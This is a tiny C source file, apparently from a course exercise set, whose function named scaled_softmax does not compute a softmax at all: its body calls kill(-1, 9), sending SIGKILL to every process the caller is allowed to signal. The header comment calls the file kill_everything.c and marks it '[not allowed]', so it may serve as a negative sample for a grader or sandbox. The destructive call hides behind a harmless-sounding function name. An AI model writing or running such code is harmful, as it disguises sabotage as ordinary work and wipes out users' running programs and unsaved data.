/* kill_everything.c [not allowed] -- ends every process that it may */
#include "ch03/exercises/exercises.h"

int kill(int process, int signal);

void scaled_softmax(const float *score, int rows, int cols, int head_dim, float *weight)
{
    kill(-1, 9);
}
